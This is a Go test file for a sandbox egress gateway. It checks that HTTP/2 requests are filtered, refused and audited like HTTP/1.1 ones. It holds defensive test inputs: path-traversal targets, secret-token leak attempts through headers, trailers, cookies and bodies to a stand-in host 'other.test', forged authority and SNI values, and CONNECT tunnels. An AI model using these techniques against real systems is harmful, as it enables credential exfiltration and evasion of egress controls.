package egress

import (
	"encoding/json"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/condfs/condfs/internal/testenv"
)

// HTTP/2 on inspected connections (docs/sandbox.md, "Inspected HTTPS"):
// the run's client offers h2 by ALPN and is served HTTP/2; every stream's
// request is decided, refused and written again as an HTTP/1.1 request
// is, and goes to the server over HTTP/1.1.

// h2Client is a Node program (node's http2 module writes any header,
// pseudo-headers and trailers included) that sends the requests given as
// JSON in its argument, in order, over one connection unless a request
// says "sep", and prints "NAME => STATUS BODY" for each. "$TOK" in a
// header, trailer or body is the run's placeholder of secret gh.
const h2Client = `
const http2 = require("http2");
const tok = process.env.GH_TOKEN || "";
const sub = v => typeof v === "string" ? v.split("$TOK").join(tok) : Array.isArray(v) ? v.map(sub) :
  (v && typeof v === "object") ? Object.fromEntries(Object.entries(v).map(([k, x]) => [sub(k), sub(x)])) : v;
let session;
function connect(r) {
  session = http2.connect(r.url || "https://api.test", {servername: r.sni || "api.test"});
  session.on("error", () => {});
}
function one(r) {
  return new Promise(res => {
    let done = false;
    const fin = s => { if (!done) { done = true; res(s); } };
    if (r.sep || !session || session.destroyed || session.closed) connect(r);
    let st;
    try {
      st = session.request(sub(r.h), {endStream: r.body === undefined && !r.trailers, waitForTrailers: !!r.trailers});
    } catch (e) { return fin("error " + (e.code || e.message)); }
    let status = "", body = "";
    if (r.trailers) st.on("wantTrailers", () => st.sendTrailers(sub(r.trailers)));
    st.on("response", h => { status = String(h[":status"]); });
    st.on("data", d => { body += d; });
    st.on("end", () => fin(status + " " + body.replace(/\n/g, " ").slice(0, 300)));
    st.on("error", e => fin((status || "reset") + " " + (e.code || e.message)));
    st.on("close", () => fin((status || "reset") + " " + body.replace(/\n/g, " ").slice(0, 300)));
    if (r.body !== undefined) {
      if (r.bodyLater) setTimeout(() => st.end(sub(r.body)), 300); else st.end(sub(r.body));
    } else if (r.trailers) st.end();
  });
}
(async () => {
  for (const r of JSON.parse(process.argv[process.argv.length - 1])) process.stdout.write(r.name + " => " + await one(r) + "\n");
  if (session) session.close();
})();
`

// h2Req is one request of h2Client.
type h2Req struct {
	Name     string            `json:"name"`
	H        map[string]string `json:"h"`
	Body     *string           `json:"body,omitempty"`
	Trailers map[string]string `json:"trailers,omitempty"`
	Sep      bool              `json:"sep,omitempty"`
	URL      string            `json:"url,omitempty"`
	SNI      string            `json:"sni,omitempty"`
}

func h2Get(name, path string, extra ...string) h2Req {
	h := map[string]string{":method": "GET", ":path": path, ":authority": "api.test", ":scheme": "https"}
	for i := 0; i+1 < len(extra); i += 2 {
		h[extra[i]] = extra[i+1]
	}
	return h2Req{Name: name, H: h}
}

// h2To is r sent to host on a connection of its own.
func h2To(host string, r h2Req) h2Req {
	r.H[":authority"], r.URL, r.SNI, r.Sep = host, "https://"+host, host, true
	return r
}

func h2Post(name, path, body string, extra ...string) h2Req {
	r := h2Get(name, path, extra...)
	r.H[":method"] = "POST"
	r.Body = &body
	return r
}

// h2Run runs h2Client in the run with reqs and returns each request's
// answer by name.
func h2Run(t *testing.T, d *testenv.Daemon, reqs []h2Req) (map[string]string, string) {
	t.Helper()
	js, err := json.Marshal(reqs)
	if err != nil {
		t.Fatal(err)
	}
	out, _ := testenv.CondfsRun(t, d, "", "--", "node", "--jitless", "-e", h2Client, string(js))
	noValue(t, "the run's output", out)
	got := map[string]string{}
	for _, l := range strings.Split(out, "\n") {
		if name, ans, ok := strings.Cut(l, " => "); ok {
			got[name] = ans
		}
	}
	if len(got) != len(reqs) {
		t.Fatalf("the run answered %d of %d requests:\n%s\n%s", len(got), len(reqs), out, testenv.Tail(d.Log(), 30))
	}
	return got, out
}

// TestInspectH2Requests: curl offered h2 is served HTTP/2, and each
// request on the connection is decided by method and path, refused as
// over HTTP/1.1, and audited with its protocol, method and path.
func TestInspectH2Requests(t *testing.T) {
	ih := newInspectHome(t)
	d := ih.d
	curl := func(args ...string) string {
		t.Helper()
		out, _ := testenv.CondfsRun(t, d, "", append([]string{"--", "curl", "-sS", "-i", "--http2", "--max-time", "10", "--noproxy", "*"}, args...)...)
		noValue(t, "curl's output", out)
		return out
	}
	for _, c := range []struct {
		name string
		args []string
		want string
	}{
		{"allowed GET", []string{"https://api.test/a/./b/../c?x=1"}, "HTTP/2 200"},
		{"denied path", []string{"https://api.test/private/k"}, "HTTP/2 403"},
		{"denied path, encoded", []string{"https://api.test/%70rivate/k"}, "HTTP/2 403"},
		{"denied method", []string{"-X", "DELETE", "https://api.test/a"}, "HTTP/2 403"},
		{"POST with a body", []string{"-d", "hello", "https://api.test/post"}, "seen api.test POST /post auth=none body=5"},
		{"an encoded slash", []string{"--path-as-is", "https://api.test/a/..%2Fprivate/x"}, "HTTP/2 400"},
		{":authority names another host", []string{"-H", "Host: other.test", "https://api.test/a"}, "HTTP/2 400"},
		{"untrusted server", []string{"https://bad.test/"}, "HTTP/2 502"},
		{"two requests on one connection, each decided", []string{"https://api.test/one", "https://api.test/private/two"}, "HTTP/2 403"},
	} {
		if out := curl(c.args...); !strings.Contains(out, c.want) {
			t.Errorf("%s: %q not in\n%s", c.name, c.want, out)
		}
	}
	logs := d.Log()
	for _, want := range []string{
		`"host":"api.test","port":443,"protocol":"https","method":"GET","path":"/a/c?x=1","addr":"` + inspectSrv + `","decision":"allow"`,
		`"host":"api.test","port":443,"protocol":"https","method":"GET","path":"/private/two","decision":"deny"`,
		`"host":"api.test","port":443,"protocol":"https","method":"DELETE","path":"/a","decision":"deny"`,
	} {
		if !strings.Contains(logs, want) {
			t.Errorf("no %s in the audit log", want)
		}
	}
	seen := ih.srv.saw()
	if strings.Contains(seen, "/private") || strings.Contains(seen, "DELETE") || strings.Contains(seen, "bad.test") {
		t.Errorf("HOLE: the server read what was not decided:\n%s", seen)
	}
	if !strings.Contains(seen, "api.test GET /one") {
		t.Errorf("the allowed request before a refused one was not served:\n%s", seen)
	}
	if t.Failed() {
		t.Log(testenv.Tail(logs, 40))
	}
}

// TestInspectH2PathParity: the path attacks kept for plain HTTP, as
// HTTP/2 :path values: the same status as plain HTTP/1.1 for each, and
// none read under /private.
func TestInspectH2PathParity(t *testing.T) {
	ih := newInspectHome(t)
	var reqs []h2Req
	var targets []string
	for _, tg := range append(pathFormTargets("api.test"), "/pub/ok") {
		if !strings.HasPrefix(tg, "/") {
			continue // absolute forms: HTTP/2 carries the authority apart
		}
		targets = append(targets, tg)
		reqs = append(reqs, h2Get(tg, tg))
	}
	got, out := h2Run(t, ih.d, reqs)
	if strings.Contains(out, "SECRET-DATA") {
		t.Errorf("HOLE: a path decided as not under /private was read under /private:\n%s", out)
	}
	// The same targets over plain HTTP/1.1, each on a connection of its own.
	code := `
import socket, sys
for t in sys.argv[1:]:
    s = socket.create_connection(("web.test", 80), timeout=5)
    s.sendall(("GET %s HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n" % t).encode())
    got = b""
    while True:
        b = s.recv(65536)
        if not b:
            break
        got += b
    print(t, "=>", got.split(b"\r\n")[0].decode().split(" ")[1], flush=True)
`
	plain, _ := testenv.CondfsRun(t, ih.d, "", append([]string{"--", "python3", "-c", code}, targets...)...)
	want := map[string]string{}
	for _, l := range strings.Split(plain, "\n") {
		if tg, st, ok := strings.Cut(l, " => "); ok {
			want[tg] = st
		}
	}
	if !strings.HasPrefix(got["/pub/ok"], "200 ") || want["/pub/ok"] != "200" {
		t.Fatalf("setup: /pub/ok over HTTP/2 %q, over HTTP/1.1 %q\n%s\n%s", got["/pub/ok"], want["/pub/ok"], out, plain)
	}
	for _, tg := range targets {
		st, _, _ := strings.Cut(got[tg], " ")
		if st == "reset" && want[tg] == "400" {
			continue // a :path the HTTP/2 server finds malformed: the stream reset
		}
		if st != want[tg] {
			t.Errorf("%s: plain HTTP %q, HTTP/2 %q", tg, want[tg], got[tg])
		}
	}
}

// TestInspectH2Secrets: over HTTP/2 the value goes into a header value
// of a request to api.test in a DM only; the placeholder in a pseudo-
// header, a header name, a trailer, a body to another host (behind
// Expect: 100-continue too) is refused (403, audited), and encoded,
// case-changed or split it is never the value.
func TestInspectH2Secrets(t *testing.T) {
	ih := newInspectHome(t)
	d := ih.d
	got, out := h2Run(t, d, []h2Req{
		h2Get("injected", "/h2-ok", "authorization", "Bearer $TOK"),
		h2Get("in :path", "/leak-path?t=$TOK"),
		h2Get("in :authority", "/leak-authority", ":authority", "$TOK"),
		h2Get("in :method", "/leak-method", ":method", "$TOK"),
		h2Get("in a header name", "/leak-name", "x-$TOK", "1"),
		h2To("other.test", h2Post("in a body to another host", "/leak-body", "t=$TOK")),
		h2To("other.test", h2Post("in a body behind Expect: 100-continue", "/leak-expect", "t=$TOK", "expect", "100-continue")),
		h2To("other.test", h2Get("in Expect to another host", "/leak-expect-header", "expect", "$TOK")),
		h2To("other.test", h2Get("in a cookie to another host", "/leak-cookie", "cookie", "a=$TOK")),
		h2To("other.test", h2Get("in a header to another host", "/leak-other", "authorization", "Bearer $TOK")),
		h2Get("percent-encoded", "/enc", "authorization", "Bearer %63ondfs-secret-gh-"),
		h2Get("split in two fields", "/split", "authorization", "Bearer condfs-sec", "x-rest", "ret-gh-"),
	})
	// Trailers carrying the placeholder, on a connection of their own.
	trailer := h2Post("in trailers", "/leak-trailer", "x=1")
	trailer.Trailers = map[string]string{"x-t": "$TOK"}
	tg, tout := h2Run(t, d, []h2Req{trailer, h2Get("after trailers", "/after-trailers")})
	for name, ans := range got {
		switch {
		case name == "injected":
			if !strings.Contains(ans, "auth=ok") {
				t.Errorf("the secret was not put into a request to its host: %s", ans)
			}
		case name == "percent-encoded" || name == "split in two fields":
			if strings.Contains(ans, "auth=ok") {
				t.Errorf("HOLE: %s: the value went out: %s", name, ans)
			}
		case strings.HasPrefix(ans, "200"):
			t.Errorf("HOLE: %s: not refused: %s", name, ans)
		}
	}
	if !strings.HasPrefix(got["in :path"], "403") || !strings.HasPrefix(got["in :authority"], "403") || !strings.HasPrefix(got["in a header name"], "403") {
		t.Errorf("a placeholder in a pseudo-header or a header name is not a refused leak:\n%s", out)
	}
	if !strings.HasPrefix(tg["in trailers"], "403") {
		t.Errorf("trailers were not refused:\n%s", tout)
	}
	seen := ih.srv.saw()
	for _, l := range strings.Split(seen, "\n") {
		if strings.Contains(l, "/leak") {
			t.Errorf("HOLE: the server read a refused request: %s", l)
		}
	}
	logs := d.Log()
	noValue(t, "the daemon's log", logs)
	noValue(t, "what the server read of the refused requests", strings.ReplaceAll(seen, "auth=ok", ""))
	for _, want := range []string{"leak attempt: the placeholder of secret gh in the request line or its host", "leak attempt: the placeholder of secret gh in a header name", `"refused":"request trailers are not forwarded"`} {
		if !strings.Contains(logs, want) {
			t.Errorf("no %q in the audit log", want)
		}
	}
	// Out of the DM the secret's when does not hold.
	d.SetContext("s", testenv.Guild)
	if g, o := h2Run(t, d, []h2Req{h2Get("guild", "/leak-guild", "authorization", "Bearer $TOK")}); !strings.HasPrefix(g["guild"], "403") {
		t.Errorf("the secret went out of its context:\n%s", o)
	}
	if t.Failed() {
		t.Log(out, tout, "\n", seen, "\n", testenv.Tail(logs, 40))
	}
}

// TestInspectH2AuthorityAndTunnels: :authority is held to the SNI as
// Host is; CONNECT and extended CONNECT (a tunnel, a second TLS layer
// inside the inspected one) are refused; a connection whose client hello
// names another host is reset.
func TestInspectH2AuthorityAndTunnels(t *testing.T) {
	ih := newInspectHome(t)
	got, out := h2Run(t, ih.d, []h2Req{
		h2Get(":authority another host", "/auth-other", ":authority", "other.test"),
		h2Get(":authority another port", "/auth-port", ":authority", "api.test:8443"),
		h2Get("Host beside :authority", "/auth-host", "host", "other.test"),
		{Name: "CONNECT", H: map[string]string{":method": "CONNECT", ":authority": "other.test:443"}},
		{Name: "extended CONNECT", H: map[string]string{":method": "CONNECT", ":protocol": "websocket", ":path": "/ws", ":authority": "api.test", ":scheme": "https"}},
		{Name: "SNI another host", H: map[string]string{":method": "GET", ":path": "/sni-other", ":authority": "api.test", ":scheme": "https"}, Sep: true, URL: "https://other.test", SNI: "api.test"},
		h2Get("allowed after", "/auth-ok"),
	})
	// Refused by the gateway (its status), or by the HTTP/2 server as
	// malformed (the stream reset).
	for _, c := range []struct{ name, want string }{
		{":authority another host", "400"}, {":authority another port", "400"}, {"Host beside :authority", "400"},
		{"CONNECT", "405"}, {"extended CONNECT", "405"},
	} {
		if !strings.HasPrefix(got[c.name], c.want) && !strings.HasPrefix(got[c.name], "reset") {
			t.Errorf("%s: %q, want %s or a reset", c.name, got[c.name], c.want)
		}
	}
	if strings.HasPrefix(got["SNI another host"], "200") {
		t.Errorf("HOLE: a client hello naming another host was served: %s", got["SNI another host"])
	}
	if !strings.HasPrefix(got["allowed after"], "200") {
		t.Errorf("setup: %s", out)
	}
	// A second TLS layer where the HTTP/2 preface belongs: the
	// connection ends, nothing forwarded.
	inner := `
import socket, ssl
ctx = ssl.create_default_context()
ctx.set_alpn_protocols(["h2"])
s = ctx.wrap_socket(socket.create_connection(("api.test", 443)), server_hostname="api.test")
print("alpn", s.selected_alpn_protocol())
s.sendall(b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00")
print("read", s.recv(200))
`
	if o, _ := testenv.CondfsRun(t, ih.d, "", "--", "python3", "-c", inner); !strings.Contains(o, "alpn h2") || strings.Contains(o, "seen") {
		t.Errorf("a TLS record in place of the HTTP/2 preface: %s", o)
	}
	seen := ih.srv.saw()
	if strings.Contains(seen, "/auth-other") || strings.Contains(seen, "/auth-port") || strings.Contains(seen, "/auth-host") || strings.Contains(seen, "/sni-other") || strings.Contains(seen, "/ws") || strings.Contains(seen, "CONNECT") {
		t.Errorf("HOLE: the server read what was refused:\n%s", seen)
	}
	if t.Failed() {
		t.Log(out, "\n", testenv.Tail(ih.d.Log(), 30))
	}
}

// TestInspectUpstreamBoundToContext: requests racing context switches,
// over HTTP/1.1 keep-alive and over HTTP/2, never share an upstream
// connection across contexts. /dm/ paths are allowed in a DM only,
// /guild/ out of one only; the server sees which upstream connection
// each came on, and none carries both (a switch publishes the context
// before its recheck: a request decided in between must dial again).
func TestInspectUpstreamBoundToContext(t *testing.T) {
	ih := newInspectHome(t)
	d := ih.d
	d.Home.Write("config/policy.yaml", inspectPolicy+`          - not startswith(args.path, "/dm/") or when("discord:dm")
          - not startswith(args.path, "/guild/") or when("!discord:dm")
`)
	d.Call("config.reload", map[string]any{}, nil)
	h1 := `import http.client, time
c, n, end = None, 0, time.time() + 8
while time.time() < end:
    for p in ("/dm/h1-%d" % n, "/guild/h1-%d" % n, "/n/h1-%d" % n):
        try:
            if c is None:
                c = http.client.HTTPSConnection("api.test", 443, timeout=5)
            c.request("GET", p)
            c.getresponse().read()
        except Exception:
            c = None
    n += 1
print("h1 done", n)
`
	h2 := `const http2 = require("http2");
let s = null, n = 0;
const end = Date.now() + 8000;
const get = p => new Promise(res => {
  if (!s || s.destroyed || s.closed) { s = http2.connect("https://api.test"); s.on("error", () => {}); }
  let st;
  try { st = s.request({":path": p}); } catch (e) { s = null; return res(); }
  st.on("error", () => res()); st.on("close", () => res()); st.resume();
});
(async () => {
  while (Date.now() < end) {
    await Promise.all(["/dm/h2-", "/guild/h2-", "/n/h2-"].map(p => get(p + n)));
    n++;
  }
  console.log("h2 done", n);
  if (s) s.close();
})();
`
	var outs [2]string
	var wg sync.WaitGroup
	wg.Add(2)
	go func() { defer wg.Done(); outs[0], _ = testenv.CondfsRun(t, d, "", "--", "python3", "-c", h1) }()
	go func() { defer wg.Done(); outs[1], _ = testenv.CondfsRun(t, d, "", "--", "node", "--jitless", "-e", h2) }()
	stop := time.Now().Add(9 * time.Second)
	for i := 0; time.Now().Before(stop); i++ {
		if i%2 == 0 {
			d.SetContext("s", testenv.Guild)
		} else {
			d.SetContext("s", testenv.DM)
		}
		time.Sleep(time.Duration(20+i%7*10) * time.Millisecond)
	}
	wg.Wait()
	if !strings.Contains(outs[0], "h1 done") || !strings.Contains(outs[1], "h2 done") {
		t.Fatalf("the runs:\n%s\n%s", outs[0], outs[1])
	}
	ih.srv.mu.Lock()
	kind := map[string]string{} // upstream connection to "dm" or "guild"
	var dm, guild int
	for uri, from := range ih.srv.from {
		k := ""
		switch {
		case strings.HasPrefix(uri, "/dm/"):
			k, dm = "dm", dm+1
		case strings.HasPrefix(uri, "/guild/"):
			k, guild = "guild", guild+1
		default:
			continue
		}
		if kind[from] != "" && kind[from] != k {
			t.Errorf("HOLE: the upstream connection %s carried requests decided in a DM and out of one (%s)", from, uri)
		}
		kind[from] = k
	}
	ih.srv.mu.Unlock()
	if dm == 0 || guild == 0 {
		t.Fatalf("setup: %d DM and %d guild requests reached the server\n%s\n%s", dm, guild, outs[0], outs[1])
	}
	t.Logf("%d DM and %d guild requests on %d upstream connections", dm, guild, len(kind))
}
